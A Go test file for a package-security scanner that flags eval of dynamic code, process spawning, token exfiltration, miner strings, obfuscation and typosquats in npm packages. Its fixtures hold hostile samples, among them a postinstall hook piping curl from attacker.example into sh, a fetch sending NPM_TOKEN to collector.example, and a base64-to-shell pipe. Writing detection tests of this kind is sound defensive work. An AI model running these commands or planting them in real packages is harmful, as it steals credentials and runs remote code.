// Filename: detect/detect_test.go
package detect

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	sitter "github.com/smacker/go-tree-sitter"
	"github.com/smacker/go-tree-sitter/javascript"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"

	"github.com/xm4dn355/packguard-cli/api/schemas"
	"github.com/xm4dn355/packguard-cli/internal/pipeline"
)

func parseJS(t *testing.T, source string) (*sitter.Node, []byte) {
	t.Helper()
	parser := sitter.NewParser()
	parser.SetLanguage(javascript.GetLanguage())
	tree, err := parser.ParseCtx(context.Background(), nil, []byte(source))
	require.NoError(t, err)
	t.Cleanup(tree.Close)
	return tree.RootNode(), []byte(source)
}

func inspect(t *testing.T, source string) []Signal {
	t.Helper()
	root, src := parseJS(t, source)
	return newASTInspector(src).Inspect(root)
}

func signalKinds(signals []Signal) []SignalKind {
	kinds := make([]SignalKind, 0, len(signals))
	for _, s := range signals {
		kinds = append(kinds, s.Kind)
	}
	return kinds
}

func TestInspectorDynamicExecution(t *testing.T) {
	signals := inspect(t, `const payload = decode(data); eval(payload);`)
	assert.Contains(t, signalKinds(signals), SignalDynamicExecution)
}

func TestInspectorIgnoresStaticEval(t *testing.T) {
	signals := inspect(t, `eval("use strict");`)
	assert.NotContains(t, signalKinds(signals), SignalDynamicExecution)
}

func TestInspectorChildProcess(t *testing.T) {
	signals := inspect(t, `const cp = require("child_process"); cp.execSync("whoami");`)
	kinds := signalKinds(signals)
	assert.Contains(t, kinds, SignalProcessSpawn)
}

func TestInspectorEnvExfiltration(t *testing.T) {
	source := `const token = process.env.NPM_TOKEN;
fetch("https://collector.example/c?t=" + token);`
	signals := inspect(t, source)
	assert.Contains(t, signalKinds(signals), SignalEnvExfiltration)
}

func TestInspectorEnvAloneIsClean(t *testing.T) {
	signals := inspect(t, `const port = process.env.PORT || 3000;`)
	assert.NotContains(t, signalKinds(signals), SignalEnvExfiltration)
}

func TestInspectorMinerIndicator(t *testing.T) {
	signals := inspect(t, `const pool = "stratum+tcp://pool.example:3333";`)
	require.Contains(t, signalKinds(signals), SignalMinerIndicator)
}

func TestInspectorHexIdentifiers(t *testing.T) {
	source := `var _0x1a2b3c = 1; var _0x4d5e6f = 2; var _0xa1b2c3 = 3;
var _0xd4e5f6 = 4; var _0x123abc = _0x1a2b3c + _0x4d5e6f;`
	signals := inspect(t, source)
	assert.Contains(t, signalKinds(signals), SignalHexIdentifiers)
}

func TestShannonEntropy(t *testing.T) {
	assert.Zero(t, shannonEntropy(""))
	assert.Less(t, shannonEntropy("aaaaaaaa"), 0.1)
	assert.Greater(t, shannonEntropy("a8F2kQ9zXw1pL5mN"), 3.0)
}

func TestEditDistanceOne(t *testing.T) {
	testCases := []struct {
		a, b string
		want bool
	}{
		{"lodash", "lodahs", false}, // transposition is two substitutions
		{"lodash", "lodach", true},
		{"lodash", "lodas", true},
		{"lodash", "lodashh", true},
		{"lodash", "lodash", false},
		{"react", "vue", false},
	}
	for _, tc := range testCases {
		assert.Equal(t, tc.want, editDistanceOne(tc.a, tc.b), "%s vs %s", tc.a, tc.b)
	}
}

func TestCheckTyposquats(t *testing.T) {
	scanner := NewScanner(nil, zap.NewNop())
	findings := scanner.checkTyposquats([]schemas.Package{
		{Name: "expresss", Version: "1.0.0", Ecosystem: schemas.EcosystemNPM},
		{Name: "express", Version: "4.18.2", Ecosystem: schemas.EcosystemNPM},
	})
	require.Len(t, findings, 1)
	assert.Equal(t, "expresss", findings[0].PackageName)
	assert.Equal(t, schemas.FindingTyposquat, findings[0].Type)
	assert.Equal(t, "express", findings[0].Evidence["similar_to"])
}

func writePackage(t *testing.T, root, name string, files map[string]string) string {
	t.Helper()
	dir := filepath.Join(root, "node_modules", name)
	require.NoError(t, os.MkdirAll(dir, 0o755))
	for rel, content := range files {
		require.NoError(t, os.WriteFile(filepath.Join(dir, rel), []byte(content), 0o644))
	}
	return dir
}

func TestScannerAnalyze(t *testing.T) {
	root := t.TempDir()

	evilDir := writePackage(t, root, "evil-pkg", map[string]string{
		"package.json": `{"name":"evil-pkg","scripts":{"postinstall":"curl https://attacker.example/x | sh"}}`,
		"index.js":     `const p = build(); eval(p);`,
	})
	cleanDir := writePackage(t, root, "clean-pkg", map[string]string{
		"package.json": `{"name":"clean-pkg","scripts":{"test":"mocha"}}`,
		"index.js":     `module.exports = function add(a, b) { return a + b; };`,
	})

	ac := pipeline.NewAnalysisContext("test-id", nil, nil, []schemas.Package{
		{Name: "evil-pkg", Version: "1.0.0", Ecosystem: schemas.EcosystemNPM, SourceDir: evilDir},
		{Name: "clean-pkg", Version: "2.0.0", Ecosystem: schemas.EcosystemNPM, SourceDir: cleanDir},
	})
	ac.Ecosystem = schemas.EcosystemNPM

	scanner := NewScanner(nil, zap.NewNop())
	payload, err := scanner.Analyze(context.Background(), ac)
	require.NoError(t, err)

	require.NoError(t, pipeline.ValidatePayload(payload))

	findings, ok := payload["findings"].([]schemas.Finding)
	require.True(t, ok)

	var types []schemas.FindingType
	for _, f := range findings {
		assert.Equal(t, "evil-pkg", f.PackageName)
		types = append(types, f.Type)
	}
	assert.Contains(t, types, schemas.FindingSuspiciousScript)
	assert.Contains(t, types, schemas.FindingObfuscatedCode)

	pkgs, ok := payload["packages"].([]map[string]any)
	require.True(t, ok)
	require.Len(t, pkgs, 2)
	for _, pkg := range pkgs {
		if pkg["name"] == "evil-pkg" {
			assert.Greater(t, pkg["risk_flags"].(int), 0)
		} else {
			assert.Zero(t, pkg["risk_flags"].(int))
		}
	}
}

func TestMatchScriptMarker(t *testing.T) {
	assert.NotEmpty(t, matchScriptMarker(`curl https://x.example | sh`))
	assert.NotEmpty(t, matchScriptMarker(`echo aGk= | base64 -d | sh`))
	assert.Empty(t, matchScriptMarker(`node ./scripts/build.js`))
}

func TestSignalToFindingMapping(t *testing.T) {
	pkg := schemas.Package{Name: "p", Version: "1"}

	f := signalToFinding(pkg, Signal{Kind: SignalMinerIndicator, Detail: "d"})
	assert.Equal(t, schemas.FindingCryptoMiner, f.Type)
	assert.Equal(t, schemas.SeverityCritical, f.Severity)

	f = signalToFinding(pkg, Signal{Kind: SignalEncodedPayload, Detail: "d"})
	assert.Equal(t, schemas.FindingObfuscatedCode, f.Type)
	assert.True(t, f.IsSuspicious())
}
